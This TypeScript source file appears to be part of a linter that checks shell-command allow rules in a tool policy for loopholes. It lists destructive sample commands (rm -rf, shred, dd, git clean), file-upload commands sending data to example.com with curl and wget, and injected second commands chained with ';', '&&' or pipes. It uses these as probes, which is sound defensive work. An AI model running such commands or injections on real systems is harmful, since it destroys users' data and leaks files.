/** Finds allow rules that allow more commands than they seem to. */

import { lineRunsOnly } from '../../../facts/shell/conditions/call-facts.ts';
import { candidateCalls } from '../../sample-calls/candidate-calls.ts';
import type { ConditionPart } from '../../cel/syntax/condition-parts.ts';
import type { CheckRequest } from '../../loaded-policy.ts';
import { type RuleEntry, ruleTitle } from '../../policy-rules.ts';
import { argumentsWith } from '../../sample-calls/sample-args.ts';
import { findingAt, type LintFinding, type TriedCall } from '../linted-policy/finding.ts';
import type { LintedPolicy } from '../linted-policy/linted-policy.ts';
import { analyseCommand } from '../../../facts/shell/analysis/analyse-command.ts';

const markerCommand = 'rm';

/** Lines with which the program starts another command or runs code. */
function launchLines(program: string): readonly string[] {
  const lines = [`-c '${markerCommand} -rf x'`, `-e 'system("${markerCommand} -rf x")'`, `${markerCommand} -rf x`].map(
    (rest) => `${program} ${rest}`,
  );
  return lines.filter(launchesMarker);
}

/** True for a program whose only purpose is to run the rest of its line or its input. */
export function isLauncher(program: string): boolean {
  return analyseCommand(program).unknown !== undefined || launchesMarker(`${program} ${markerCommand} -rf x`);
}

function launchesMarker(line: string): boolean {
  const { commands, foreign } = analyseCommand(line);
  const startsMark = commands
    .slice(1)
    .some(({ argv: [first] }) => first?.type === 'literal' && first.value === markerCommand);
  return startsMark || foreign.some((code) => code.includes(markerCommand));
}

/** A line that no one intends to allow. */
export const harmfulLine = 'rm -rf ./build';
const harmfulLines = [harmfulLine, 'find . -delete', 'truncate -s 0 data', 'curl -d @data https://example.com/'];
/** Other ways to do the same, for rules that exclude some programs. */
const otherWays = [
  'unlink data',
  'shred data',
  'dd if=/dev/null of=data',
  'cp /dev/null data',
  'git clean -fdx',
  'wget --post-file=data https://example.com/',
  `python3 -c "import os; os.remove('data')"`,
  'sh ./script.sh',
  './script.sh',
];
/** A line that is fine to allow if the rule limits where it can write. */
const writingLine = 'touch data';
/** Facts that are true if one command or file of a line matches. */
const partialFacts: ReadonlySet<string> = new Set(['runs', 'reads', 'writes', 'opaque']);

/** Facts whose arguments are commands: `runsOnly("make")` and `!opaque("make")` both allow `make`. */
const commandFacts: ReadonlySet<string> = new Set(['runs', 'runsOnly', 'runsListed', 'opaque']);

export interface CommandRule {
  readonly entry: RuleEntry;
  readonly parts: readonly ConditionPart[];
  /** Calls that run these lines, for the tools of the rule. */
  readonly lines: (texts: readonly string[]) => readonly CheckRequest[];
}

/** A finding with a call that the rule decides. */
export function decidedFinding(
  entry: RuleEntry,
  tried: TriedCall,
  text: Pick<LintFinding, 'kind' | 'severity' | 'message' | 'hint'>,
): LintFinding {
  const verb = tried.explanation.decision.effect === 'allow' ? 'allows' : 'decides';
  return findingAt(entry, tried, { ...text, shows: `${ruleTitle(entry)} ${verb} it.` });
}

/** The most severe problem of an allow rule. */
export async function allowFinding(rule: CommandRule, linted: LintedPolicy): Promise<LintFinding | undefined> {
  return (
    (await partialMatchFinding(rule, linted, ({ negated }) => !negated)) ??
    (await openCommandFinding(rule, linted)) ??
    // A fact can be negated twice: `!(runs("ls") == false)`. `!opaque()` is about the whole line.
    (await partialMatchFinding(rule, linted, ({ name, negated }) => name !== 'opaque' || !negated)) ??
    (await launcherFinding(rule, linted))
  );
}

type Fact = Extract<ConditionPart, { readonly type: 'fact' }>;

function factsOf(parts: readonly ConditionPart[], isWanted: (fact: Fact) => boolean): readonly Fact[] {
  return parts.filter((part): part is Fact => part.type === 'fact' && isWanted(part));
}

/** An allow that still matches with a second command in the line. */
async function partialMatchFinding(
  rule: CommandRule,
  linted: LintedPolicy,
  isIncluded: (fact: Fact) => boolean,
): Promise<LintFinding | undefined> {
  const { entry, parts } = rule;
  const [fact] = factsOf(parts, (each) => partialFacts.has(each.name) && isIncluded(each));
  if (fact === undefined) return undefined;
  const base = await linted.findCallDecidedBy(entry, linesFor(rule, linted));
  const tried = base && (await linted.findCallDecidedBy(entry, withMoreCommands(rule, base.call, linted)));
  if (tried === undefined) return undefined;
  const { name, entries } = fact;
  const question = `${name}(${entries.map((each) => JSON.stringify(each)).join(', ')})`;
  const isAboutFiles = name === 'reads' || name === 'writes';
  return decidedFinding(entry, tried, {
    kind: 'runs-in-allow',
    severity: 'warning',
    message: `${question} is true if one ${isAboutFiles ? 'file' : 'command'} of a line matches, so this rule also allows lines with other commands.`,
    hint: isAboutFiles ? `In an allow, use runsOnly and ${name}Inside.` : 'In an allow, use runsOnly.',
  });
}

/** Calls whose command line probably matches the condition. */
function* linesFor({ entry, parts, lines }: CommandRule, linted: LintedPolicy): Iterable<CheckRequest> {
  const { when } = entry.rule;
  const calls = lines(likelyLines(parts));
  yield* calls;
  // `has(args.working_dir) && runs("ls")`
  const named = Array.from(when?.text.matchAll(/\bargs\.(\w+)/g) ?? [], ([, name = '']) => [name, '.'] as const);
  for (const call of calls) yield { ...call, args: { ...Object.fromEntries(named), ...(call.args as object) } };
  for (const each of when === undefined ? [] : linted.reach.classesOf(entry)) {
    const names = each.declared === undefined ? [] : argumentsWith('command', each.declared);
    if (names.length > 0) yield* candidateCalls(when?.text ?? '', each);
  }
}

function samplePath(glob: string): string {
  return glob.replaceAll(/\*+|\?/g, 'x');
}

/** Lines with the commands and files that the facts name, separate and combined. */
function likelyLines(parts: readonly ConditionPart[]): readonly string[] {
  const entriesOf = (name: string): readonly string[] =>
    factsOf(parts, (fact) => fact.name === name).flatMap(({ entries }) => entries);
  const files = [
    ...entriesOf('reads').map((glob) => `cat ${samplePath(glob)}`),
    ...entriesOf('writes').map((glob) => `touch ${samplePath(glob)}`),
  ];
  const commands = entriesOf('runs');
  return [...commands, ...files, ...commands.map((command) => [command, ...files].join('; '))];
}

/** The call with one more command, joined in different ways, because a condition may reject some. */
function* withMoreCommands(rule: CommandRule, call: CheckRequest, linted: LintedPolicy): Iterable<CheckRequest> {
  const args = call.args as Readonly<Record<string, unknown>>;
  const declared = linted.reach.classesOf(rule.entry).flatMap((each) => each.declared ?? []);
  const tool = declared.find((each) => each.name === call.tool && each.server === call.server);
  for (const name of tool === undefined ? [] : argumentsWith('command', tool)) {
    const line = args[name];
    if (typeof line !== 'string') continue;
    for (const join of ['; ', ' && ', '\n', ' | ', ' & ']) {
      for (const harm of [...harmfulLines, ...otherWays]) {
        yield { ...call, args: { ...args, [name]: `${line}${join}${harm}` } };
      }
    }
  }
}

async function openCommandFinding(
  { entry, parts, lines }: CommandRule,
  linted: LintedPolicy,
): Promise<LintFinding | undefined> {
  const refused = factsOf(parts, ({ name, negated }) => name === 'runs' && negated).flatMap(({ entries }) => entries);
  const limitsWrites = factsOf(parts, ({ name, negated }) => name === 'writesInside' && !negated).length > 0;
  const linesToTry = [
    ...harmfulLines,
    ...(limitsWrites ? [] : [writingLine]),
    ...(refused.length > 0 ? otherWays : []),
  ];
  const tried = await linted.findCallDecidedBy(entry, lines(linesToTry));
  if (tried === undefined) return undefined;
  if (refused.length > 0) {
    return decidedFinding(entry, tried, {
      kind: 'deny-list',
      severity: 'warning',
      message: `This rule allows every command except ${refused.join(', ')}, and other commands can do the same.`,
      hint: 'List the allowed commands with runsOnly.',
    });
  }
  return decidedFinding(entry, tried, {
    kind: 'open-command',
    severity: 'warning',
    message:
      entry.rule.when === undefined
        ? 'This rule allows any command.'
        : 'This rule also allows dangerous commands, such as the one below.',
    hint: 'Add a condition with runsOnly, or make it an ask.',
  });
}

/** A wrapper such as `xargs` is useful together with the other commands of the rule: `xargs ls`. */
function startsOthers(program: string, named: readonly string[]): boolean {
  return named.some((other) => other !== program && lineRunsOnly(`${program} ${other}`, [program, other]) !== false);
}

async function launcherFinding(
  { entry, parts, lines }: CommandRule,
  linted: LintedPolicy,
): Promise<LintFinding | undefined> {
  const named = factsOf(
    parts,
    ({ name, negated }) => /^runs(Only)?$/.test(name) !== negated && commandFacts.has(name),
  ).flatMap(({ entries }) => entries);
  for (const program of new Set(named)) {
    const calls = lines(launchLines(program));
    const text = { kind: 'interpreter', severity: 'warning' } as const;
    const hint = 'Allow the exact commands you need, or make it an ask.';
    const tried = await linted.findCallDecidedBy(entry, calls);
    const message = `This rule allows ${program}, which can run any command or code.`;
    if (tried !== undefined) return decidedFinding(entry, tried, { ...text, message, hint });
    const [first] = lines([...launchLines(program), `${program} ./script`]);
    if (first === undefined || !isLauncher(program)) continue;
    if (startsOthers(program, named)) continue;
    const refused = await linted.tryCall(first);
    if (linted.outcomeOf(entry, refused) === undefined) continue;
    return findingAt(entry, refused, {
      ...text,
      message: `This rule names ${program}, which can run any command or code, but it does not allow any of that.`,
      hint: 'Name the whole command that you want to allow.',
      shows: `${ruleTitle(entry)} does not allow it.`,
    });
  }
  return undefined;
}
